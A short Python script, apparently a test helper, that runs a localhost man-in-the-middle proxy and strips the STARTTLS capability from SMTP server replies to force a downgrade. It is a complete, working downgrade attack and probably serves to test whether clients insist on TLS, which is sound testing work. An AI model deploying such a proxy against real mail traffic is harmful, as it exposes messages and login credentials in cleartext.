"""A man in the middle who hides STARTTLS: python3 strip.py NEXT-PORT. Prints the port that it listens on."""

import socket
import sys
import threading


def copy(source, target, hides):
    while data := source.recv(65536):
        if hides:
            data = data.replace(b"250-STARTTLS\r\n", b"").replace(b"250 STARTTLS\r\n", b"250 HELP\r\n")
        target.sendall(data)
    target.close()


listener = socket.create_server(("127.0.0.1", 0))
print(listener.getsockname()[1], flush=True)
while True:
    client, _ = listener.accept()
    server = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    threading.Thread(target=copy, args=(client, server, False), daemon=True).start()
    threading.Thread(target=copy, args=(server, client, True), daemon=True).start()
